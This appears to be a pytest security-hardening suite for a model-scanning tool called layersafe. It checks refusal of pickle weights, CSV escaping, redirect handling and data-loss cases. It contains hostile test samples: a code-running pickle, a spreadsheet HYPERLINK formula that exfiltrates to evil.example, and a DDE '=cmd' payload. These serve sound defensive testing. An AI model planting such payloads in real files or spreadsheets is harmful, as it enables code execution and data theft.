"""Issue 24 [hardening-2]: one test per class of failure, each with the real bad input.

Nothing a user types or opens may run code, corrupt a result or lose data; every problem ends
with one line on stderr and exit code 2 (no traceback), keeping the work already done.
"""

from __future__ import annotations

import json
import multiprocessing as mp
import os
import pickle
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from layersafe.errors import UserError

# ---------------------------------------------------------------------------------------------
# helpers


class _Boom:
    """A pickle that, when loaded, creates a file: proof that code ran."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _evil_pickle(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps(_Boom(marker)))


def run_cli(argv, capsys):
    """(exit code, stdout, stderr) of ``layersafe ARGV`` in this process."""
    from layersafe.cli import main

    rc = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return rc, out, err


def one_error_line(err: str) -> str:
    lines = [l for l in err.splitlines() if l.startswith("layersafe: error:")]
    assert len(lines) == 1, err
    return lines[0]


# ---------------------------------------------------------------------------------------------
# Security: the safetensors-only check looks at the file that will be loaded


def test_decoy_safetensors_beside_pickle_weights_is_refused(tiny_llava_dir, tmp_path):
    import shutil

    from layersafe.models import load_vlm
    from layersafe.safeload import check_weights

    marker = tmp_path / "pwned"
    # an adapter folder: peft would load adapter_model.bin (a pickle) whatever else lies there
    adapter = tmp_path / "adapter"
    adapter.mkdir()
    (adapter / "adapter_config.json").write_text(json.dumps({"peft_type": "LORA", "r": 4, "target_modules": ["q_proj"]}))
    (adapter / "decoy.safetensors").write_bytes(b"")
    _evil_pickle(adapter / "adapter_model.bin", marker)
    with pytest.raises(UserError, match="only pickle weights .adapter_model.bin."):
        load_vlm(str(tiny_llava_dir), device="cpu", dtype="float32", adapter=str(adapter))
    # a model folder: transformers would want model.safetensors; a decoy is not it
    model = tmp_path / "model"
    shutil.copytree(tiny_llava_dir, model)
    (model / "model.safetensors").unlink()
    (model / "decoy.safetensors").write_bytes(b"")
    _evil_pickle(model / "pytorch_model.bin", marker)
    with pytest.raises(UserError, match="only pickle weights .pytorch_model.bin."):
        check_weights(model, allow_pickle=False)
    with pytest.raises(UserError, match="pickle"):
        load_vlm(str(model), device="cpu", dtype="float32")
    # a sharded index naming a pickle shard
    (model / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {"w": "pytorch_model.bin"}}))
    with pytest.raises(UserError, match="not a safetensors file"):
        check_weights(model, allow_pickle=False)
    assert not marker.exists()
    # the real thing still passes
    check_weights(tiny_llava_dir, allow_pickle=False)


def test_corrupt_weights_under_allow_pickle_is_one_line(tiny_llava_dir, tmp_path, capsys):
    import shutil

    bad = tmp_path / "bad"
    shutil.copytree(tiny_llava_dir, bad)
    (bad / "model.safetensors").unlink()
    (bad / "pytorch_model.bin").write_bytes(b"\x80\x04garbage that is no pickle")
    rc, _, err = run_cli(["layers", "--model", bad, "--allow-pickle"], capsys)
    assert rc == 2 and "cannot load model or processor" in one_error_line(err)
    (bad / "pytorch_model.bin").unlink()
    (bad / "model.safetensors").write_bytes(b"garbage")
    rc, _, err = run_cli(["layers", "--model", bad], capsys)
    assert rc == 2 and "cannot load model or processor" in one_error_line(err)


def test_no_torch_load_without_weights_only():
    """Audit: outside the RL checkpoint code (rl/checkpoint.py), every torch.load is weights_only."""
    import re

    root = Path(__file__).resolve().parents[1] / "layersafe"
    bad = []
    for p in root.rglob("*.py"):
        for i, line in enumerate(p.read_text().splitlines(), 1):
            if re.search(r"torch\.load\(", line) and "weights_only=True" not in line:
                bad.append(f"{p.relative_to(root)}:{i}")
            if re.search(r"\bpickle\.loads?\(", line):
                bad.append(f"{p.relative_to(root)}:{i}")
    allowed = ("rl/lppo.py", "rl/sft.py", "rl/checkpoint.py")  # the lead's part of issue 24
    assert [b for b in bad if not b.startswith(allowed)] == []


# ---------------------------------------------------------------------------------------------
# Security: the Perspective API key goes to the configured host only


class _Recorder(BaseHTTPRequestHandler):
    seen: list = []
    target = ""

    def do_POST(self):
        type(self).seen.append({"port": self.server.server_address[1], "key": self.headers.get("x-goog-api-key"),
                                "path": self.path})
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if type(self).target and self.server.server_address[1] != _Recorder.evil_port:
            self.send_response(302)
            self.send_header("Location", type(self).target)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        data = json.dumps({"attributeScores": {"TOXICITY": {"summaryScore": {"value": 0.01}}}}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *a):
        pass


def _serve():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    return server


def test_perspective_redirect_to_another_host_is_refused(monkeypatch):
    from layersafe.judges.base import get_judge

    monkeypatch.setenv("PERSPECTIVE_API_KEY", "dummy-key-123")
    api, evil = _serve(), _serve()
    _Recorder.seen, _Recorder.evil_port = [], evil.server_address[1]
    _Recorder.target = f"http://127.0.0.1:{evil.server_address[1]}/steal?x=1"
    try:
        j = get_judge(f"perspective:url=http://127.0.0.1:{api.server_address[1]}/v1,qps=1000,backoff=0")
        with pytest.raises(UserError, match="HTTP 302, a redirect to http://127.0.0.1:.*refused"):
            j.score([{"prompt": "p", "response": "hello there"}])
        assert [s["port"] for s in _Recorder.seen] == [api.server_address[1]]  # nothing reached the other port
        with pytest.raises(UserError, match="must be https"):
            get_judge("perspective:url=http://example.com/v1")
    finally:
        for s in (api, evil):
            s.shutdown()
            s.server_close()


# ---------------------------------------------------------------------------------------------
# Concurrency: taking the output-folder lock is atomic


def _contend(folder, start, done, results, i, stale):
    from layersafe.lock import DirLock

    start.wait()
    try:
        lock = DirLock(folder, log=lambda m: None).acquire()
        results[i] = 1
    except UserError:
        lock = None
        results[i] = 0
    done.wait()  # hold the lock until both have tried
    if lock:
        lock.release()


def test_lock_race_two_writers_never_both_hold_it(tmp_path):
    from layersafe.lock import LOCK_NAME

    ctx = mp.get_context("fork")
    dead = ctx.Process(target=lambda: None)
    dead.start()
    dead.join()
    for rnd in range(50):
        folder = tmp_path / f"r{rnd}"
        folder.mkdir()
        stale = rnd % 2 == 1  # half the rounds start from a dead run's leftover lock file
        if stale:
            (folder / LOCK_NAME).write_text(json.dumps({"pid": dead.pid, "host": socket.gethostname()}))
        start, done = ctx.Barrier(2), ctx.Barrier(2)
        results = ctx.Array("i", [-1, -1])
        procs = [ctx.Process(target=_contend, args=(folder, start, done, results, i, stale)) for i in range(2)]
        for p in procs:
            p.start()
        for p in procs:
            p.join(60)
        assert sorted(results) == [0, 1], f"round {rnd}: {list(results)}"
        assert not (folder / LOCK_NAME).exists()


# ---------------------------------------------------------------------------------------------
# Security: spreadsheet formula injection in every CSV we write


def test_csv_cells_that_spreadsheets_run_are_escaped_and_numbers_round_trip(tmp_path, capsys):
    from layersafe.evaluate import write_metrics
    from layersafe.io import read_rows, write_rows

    evil = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    rows = [{"id": "a", "prompt": "+1 555 call me", "response": evil, "score": -0.5, "neg_text": "-3",
             "at": "@SUM(A1)", "tab": "\tx", "cr": "\r=1+1", "plain": "hello", "scores": {"refusal": 0}}]
    inp = tmp_path / "in.jsonl"
    write_rows(inp, rows)
    out = tmp_path / "judged.csv"
    rc, _, _ = run_cli(["judge", "--input", inp, "--judge", "refusal", "--out", out, "--no-progress"], capsys)
    assert rc == 0
    import csv

    with out.open(newline="") as f:
        raw = next(csv.DictReader(f))
    assert raw["response"] == "'" + evil and raw["prompt"] == "'+1 555 call me"
    assert raw["at"] == "'@SUM(A1)" and raw["tab"] == "'\tx" and raw["cr"] == "'\r=1+1"
    assert raw["score"] == "-0.5" and raw["neg_text"] == "-3" and raw["plain"] == "hello"  # numbers stay numbers
    back = read_rows(out)[0]  # our own reader round-trips
    assert back["response"] == evil and back["prompt"] == "+1 555 call me" and back["score"] == "-0.5"
    # categories from a dataset file end up in metrics_by_category.csv
    judged = [{"sample_id": "a", "layer": 1, "harmful": True, "category": "=cmd|' /C calc'!A0",
               "response": "no", "scores": {"refusal": 1}}]
    write_metrics(tmp_path, judged)
    text = (tmp_path / "metrics_by_category.csv").read_text()
    assert ",'=cmd|" in text and ",=cmd" not in text


# ---------------------------------------------------------------------------------------------
# Silent wrong results

from layersafe.scan import run_scan  # noqa: E402
from tests.test_scan_engine import QUIET, cfg  # noqa: E402


def scan_cfg(dataset, out, **kw):
    return cfg(dataset, out, **{"layers": "0,1", "max_new_tokens": 2, "batch_size": 4, **kw})


def test_prompt_longer_than_the_context_is_a_failed_row(tiny_adapter, tmp_path):
    from layersafe.io import read_jsonl

    data = tmp_path / "d.jsonl"
    long = "Explain this please. " * 1500  # ~31k characters: under the load-time cap, over a 4096-token context
    data.write_text(json.dumps({"id": "long", "prompt": long, "image": "skimage:coffee"}) + "\n"
                    + json.dumps({"id": "short", "prompt": "What is this?", "image": "skimage:coffee"}) + "\n")
    run = run_scan(scan_cfg(data, tmp_path / "o"), adapter=tiny_adapter, **QUIET)
    rows = {(r["sample_id"], r["layer"]): r for r in read_jsonl(tmp_path / "o" / "generations.jsonl")}
    assert run["stats"]["failed"] == 2 and run["stats"]["generated"] == 2
    bad = rows[("long", 0)]
    assert bad["response"] is None and bad["error"].startswith("prompt too long:") and "context of 4096" in bad["error"]
    assert rows[("short", 1)]["error"] is None and rows[("short", 1)]["response"] is not None


def test_megabyte_prompt_is_refused_at_load_time_with_its_reason(tmp_path):
    import time

    from layersafe.data import load_dataset

    data = tmp_path / "d.jsonl"
    data.write_text(json.dumps({"id": "huge", "prompt": "a" * 1_000_000, "image": "skimage:coffee"}) + "\n"
                    + json.dumps({"id": "ok", "prompt": "hi", "image": "skimage:coffee"}) + "\n")
    t = time.time()
    ds = load_dataset(str(data))
    assert time.time() - t < 5
    assert [s.id for s in ds.samples] == ["ok"]
    assert "prompt is 1,000,000 characters" in ds.errors[0].reason


def test_resume_after_the_dataset_changed_in_place_is_refused(tiny_adapter, tmp_path, small_dataset):
    out = tmp_path / "o"
    run_scan(scan_cfg(small_dataset, out, limit=2), adapter=tiny_adapter, **QUIET)
    lines = small_dataset.read_text().splitlines()
    first = json.loads(lines[0])
    first["prompt"] = "A different question under the same id"
    small_dataset.write_text("\n".join([json.dumps(first)] + lines[1:]) + "\n")
    with pytest.raises(UserError, match="dataset's content changed since the original run"):
        run_scan(scan_cfg(small_dataset, out, limit=2, resume=True), adapter=tiny_adapter, **QUIET)
    small_dataset.write_text("\n".join(lines) + "\n")  # restored: resumes
    run = run_scan(scan_cfg(small_dataset, out, limit=2, resume=True), adapter=tiny_adapter, **QUIET)
    assert run["stats"]["skipped_done"] == 4


def _run_folder(tmp_path, tiny_adapter, small_dataset):
    from layersafe.evaluate import judge_run

    out = tmp_path / "run"
    run_scan(scan_cfg(small_dataset, out, limit=3), adapter=tiny_adapter, **QUIET)
    judge_run(out, ["refusal"], progress=False, log=lambda m: None)
    return out


def test_nan_scores_and_damaged_run_json_in_a_run_folder(tiny_adapter, tmp_path, small_dataset, capsys):
    from layersafe.io import read_jsonl

    out = _run_folder(tmp_path, tiny_adapter, small_dataset)
    rows = read_jsonl(out / "scores.jsonl")
    rows[0]["scores"]["refusal"] = float("nan")
    rows[1]["scores"]["reward"] = float("inf")
    (out / "scores.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))  # json writes NaN/Infinity
    rc, stdout, _ = run_cli(["report", out], capsys)
    assert rc == 0 and "2 unusable score values" in stdout + json.dumps(json.loads((out / "report" / "summary.json").read_text()))
    meta = json.loads((out / "run.json").read_text())
    meta["num_layers"] = 1_000_000_000
    (out / "run.json").write_text(json.dumps(meta))
    rc, _, err = run_cli(["report", out], capsys)  # used to hang walking a billion layers
    assert rc == 2 and "num_layers 1000000000 is not an encoder depth" in one_error_line(err)


# ---------------------------------------------------------------------------------------------
# Data loss


def test_every_command_refuses_to_overwrite_without_force(tiny_adapter, tmp_path, small_dataset, capsys):
    out = _run_folder(tmp_path, tiny_adapter, small_dataset)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("my notes")
    rc, _, err = run_cli(["report", out, "--out", mine], capsys)
    assert rc == 2 and "--force" in one_error_line(err) and sorted(p.name for p in mine.iterdir()) == ["notes.txt"]
    assert run_cli(["report", out, "--out", mine, "--force"], capsys)[0] == 0
    assert (mine / "report.html").is_file() and (mine / "notes.txt").read_text() == "my notes"
    assert run_cli(["report", out], capsys)[0] == 0  # the run's own report folder is rebuilt
    assert run_cli(["report", out], capsys)[0] == 0


def test_eval_rm_out_is_not_overwritten_silently(tmp_path, capsys):
    from tests.test_judges_reward import _save_gpt2_rm

    rm = _save_gpt2_rm(tmp_path / "rm")
    pairs = tmp_path / "pairs.jsonl"
    pairs.write_text("".join(json.dumps({"prompt": f"q{i}", "chosen": "No.", "rejected": f"Sure {i}."}) + "\n"
                             for i in range(3)))
    res = tmp_path / "rewards.jsonl"
    res.write_text("precious\n")
    argv = ["eval-rm", "--model", rm, "--data", pairs, "--out", res, "--device", "cpu", "--no-progress"]
    rc, _, err = run_cli(argv, capsys)
    assert rc == 2 and "exists; pass --force" in one_error_line(err) and res.read_text() == "precious\n"
    assert run_cli(argv + ["--force"], capsys)[0] == 0 and len(res.read_text().splitlines()) == 3


def test_scan_resume_keeps_scores_of_judges_added_later(tiny_adapter, tmp_path, small_dataset):
    from layersafe.evaluate import judge_run
    from layersafe.io import read_jsonl, write_rows

    out = _run_folder(tmp_path, tiny_adapter, small_dataset)
    rows = read_jsonl(out / "scores.jsonl")
    for r in rows:  # a judge added since (as `layersafe judge --input scores.jsonl --out scores.jsonl` does)
        r["scores"]["toxicity"] = 0.25
    write_rows(out / "scores.jsonl", rows)
    run_scan(scan_cfg(small_dataset, out, limit=3, layers="0,1,2", resume=True), adapter=tiny_adapter, **QUIET)
    notes = []
    judge_run(out, ["refusal"], progress=False, log=notes.append)
    after = read_jsonl(out / "scores.jsonl")
    old = [r for r in after if r["layer"] in (0, 1)]
    assert len(old) == len(rows) and all(r["scores"]["toxicity"] == 0.25 and "refusal" in r["scores"] for r in old)
    assert all("toxicity" not in r["scores"] for r in after if r["layer"] == 2)
    assert any("3 rows have no toxicity score" in n for n in notes), notes  # the rows generated since: said, not hidden


def test_resume_without_run_json_trims_only_a_line_that_does_not_parse(tiny_adapter, tmp_path, small_dataset):
    from layersafe.io import read_jsonl

    out = tmp_path / "o"
    run_scan(scan_cfg(small_dataset, out, limit=2), adapter=tiny_adapter, **QUIET)
    gen = out / "generations.jsonl"
    whole = gen.read_bytes()
    (out / "run.json").unlink()
    gen.write_bytes(whole.rstrip(b"\n"))  # valid last line, merely no newline
    run = run_scan(scan_cfg(small_dataset, out, limit=2, resume=True), adapter=tiny_adapter, **QUIET)
    assert run["stats"]["skipped_done"] == 4 and run["stats"]["generated"] == 0
    assert gen.read_bytes() == whole
    gen.write_bytes(whole + b'{"sample_id": "x", "lay')  # a torn write is still cut
    run_scan(scan_cfg(small_dataset, out, limit=2, resume=True), adapter=tiny_adapter, **QUIET)
    assert gen.read_bytes() == whole and len(read_jsonl(gen)) == 4


def test_judge_whose_final_write_fails_keeps_its_scores(tmp_path, capsys, monkeypatch):
    import layersafe.io as lio
    from layersafe.io import read_jsonl, write_rows

    inp = tmp_path / "in.jsonl"
    write_rows(inp, [{"id": i, "prompt": "q", "response": "I'm sorry, I can't." if i % 2 else "Sure."}
                     for i in range(50)])
    out = tmp_path / "out" / "judged.jsonl"
    real_mkstemp = lio.tempfile.mkstemp

    def disk_full(*a, **kw):  # the temp file of the final write lands on a full device
        fd, name = real_mkstemp(*a, **kw)
        os.close(fd)
        return os.open("/dev/full", os.O_WRONLY), name

    monkeypatch.setattr(lio.tempfile, "mkstemp", disk_full)
    argv = ["judge", "--input", inp, "--judge", "refusal", "--judge", "toxicity", "--out", out, "--no-progress",
            "--batch-size", "8"]
    rc, _, err = run_cli(argv, capsys)
    line = one_error_line(err)
    assert rc == 2 and "No space left on device (ENOSPC)" in line and "judged.jsonl" in line
    journal = out.parent / f".{out.name}.journal.tmp"
    assert not out.exists() and len(read_jsonl(journal)) == 100  # 50 rows x 2 judges, kept
    monkeypatch.setattr(lio.tempfile, "mkstemp", real_mkstemp)
    rc, _, err = run_cli(argv, capsys)
    assert rc == 0 and "50 rows already scored" in err
    assert len(read_jsonl(out)) == 50 and not journal.exists()


# ---------------------------------------------------------------------------------------------
# Crashes: one line, exit 2, no traceback, work kept


def test_unwritable_output_paths_are_one_line_naming_path_and_errno(tmp_path, capsys):
    from layersafe.io import write_rows

    inp = tmp_path / "in.jsonl"
    write_rows(inp, [{"id": 1, "prompt": "q", "response": "Sure."}])
    a_file = tmp_path / "plain.txt"
    a_file.write_text("x")
    cases = [(a_file / "judged.jsonl", "(EEXIST)", str(a_file)),  # a path under a file
             (a_file / "sub" / "judged.jsonl", "(ENOTDIR)", str(a_file)),
             (Path("/proc/layersafe-test/judged.jsonl"), "(ENOENT)", "/proc/layersafe-test")]
    for out, errno_name, where in cases:
        rc, _, err = run_cli(["judge", "--input", inp, "--judge", "refusal", "--out", out, "--no-progress"], capsys)
        line = one_error_line(err)
        assert rc == 2 and errno_name in line and where in line, line
    rc, _, err = run_cli(["scan", "--out", a_file / "scan", "--no-progress"], capsys)
    assert rc == 2 and str(a_file) in one_error_line(err)


def test_non_text_prompt_and_response_values(tmp_path, capsys):
    from layersafe.data import load_dataset

    inp = tmp_path / "in.jsonl"
    inp.write_text(json.dumps({"id": 1, "prompt": "q", "response": "fine"}) + "\n"
                   + json.dumps({"id": 2, "prompt": "q", "response": {"text": "nested"}}) + "\n")
    rc, _, err = run_cli(["judge", "--input", inp, "--judge", "refusal", "--out", tmp_path / "o.jsonl"], capsys)
    assert rc == 2 and "row 2: response is a dict, not text" in one_error_line(err)
    data = tmp_path / "d.jsonl"
    data.write_text(json.dumps({"id": "n", "prompt": 12345, "image": "skimage:coffee"}) + "\n"
                    + json.dumps({"id": "ok", "prompt": "hi", "image": "skimage:coffee"}) + "\n")
    ds = load_dataset(str(data))
    assert [s.id for s in ds.samples] == ["ok"] and "prompt is a JSON int, not text" in ds.errors[0].reason


def test_over_long_responses_are_cut_to_the_reward_models_positions(tmp_path, capsys):
    from transformers import AutoTokenizer

    from layersafe.io import read_jsonl, write_rows
    from tests.test_judges_reward import _save_gpt2_rm

    rm = _save_gpt2_rm(tmp_path / "rm")  # 256 positions
    tok = AutoTokenizer.from_pretrained(rm)
    tok.model_max_length = 100_000  # a tokenizer that claims more than the model has
    tok.save_pretrained(rm)
    inp = tmp_path / "in.jsonl"
    write_rows(inp, [{"id": 1, "prompt": "q", "response": "word " * 3000}, {"id": 2, "prompt": "q", "response": "ok"}])
    out = tmp_path / "o.jsonl"
    rc, _, err = run_cli(["judge", "--input", inp, "--judge", f"reward:{rm}", "--out", out, "--no-progress"], capsys)
    assert rc == 0 and "at_length_limit=1" in err  # recorded
    assert all(isinstance(r["scores"]["reward"], float) for r in read_jsonl(out))


def test_last_resort_handler_is_one_line_and_says_report(monkeypatch, capsys):
    import layersafe.cli as cli

    def broken(a):
        raise KeyError("some internal slip")

    monkeypatch.setattr(cli, "cmd_datasets", broken)
    monkeypatch.delenv("LAYERSAFE_TRACEBACK", raising=False)
    rc = cli.main(["datasets"])
    err = capsys.readouterr().err
    assert rc == 1 and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert "internal error: KeyError" in err and "please report" in err


# ---------------------------------------------------------------------------------------------
# train-rm: a non-finite loss stops training; a planted pickle in a checkpoint never runs


def _rm_argv(tmp_path, out, *extra):
    from tests.test_judges_reward import _save_gpt2_rm

    base = tmp_path / "base"
    if not base.exists():
        _save_gpt2_rm(base)
    pairs = tmp_path / "pairs.jsonl"
    pairs.write_text("".join(json.dumps({"prompt": f"q{i}", "chosen": "I can't help with that.",
                                         "rejected": f"Sure, step {i}."}) + "\n" for i in range(8)))
    return ["train-rm", "--base", base, "--data", pairs, "--out", out, "--eval-size", "0", "--batch-size", "4",
            "--max-length", "32", "--device", "cpu", "--no-progress", *extra]


def test_train_rm_stops_on_a_non_finite_loss(tmp_path, capsys):
    out = tmp_path / "rm"
    rc, _, err = run_cli(_rm_argv(tmp_path, out, "--steps", "6", "--learning-rate", "1e30", "--max-grad-norm", "0"), capsys)
    assert rc == 2 and "non-finite loss or gradient at step" in one_error_line(err)
    assert not (out / "rm_card.json").exists()  # no NaN model handed out as finished


def test_train_rm_resume_never_runs_a_planted_pickle(tmp_path, capsys):
    out = tmp_path / "rm"
    from layersafe.cli import main

    assert main([str(a) for a in _rm_argv(tmp_path, out, "--steps", "4", "--save-every", "2")]) == 0
    (out / "rm_card.json").unlink()  # pretend it stopped after the checkpoint
    ckpt = sorted((out / "checkpoints").iterdir())[-1]
    marker = tmp_path / "pwned"
    for p in ckpt.glob("*.pkl"):
        _evil_pickle(p, marker)
    capsys.readouterr()
    rc, _, err = run_cli(_rm_argv(tmp_path, out, "--steps", "4", "--save-every", "2", "--resume"), capsys)
    # accelerate loads with weights_only=True: the planted RNG pickle is refused (accelerate then goes
    # on without it) or the checkpoint is refused in one line; its code never runs
    assert not marker.exists()
    assert rc == 0 or (rc == 2 and "cannot be loaded" in one_error_line(err))
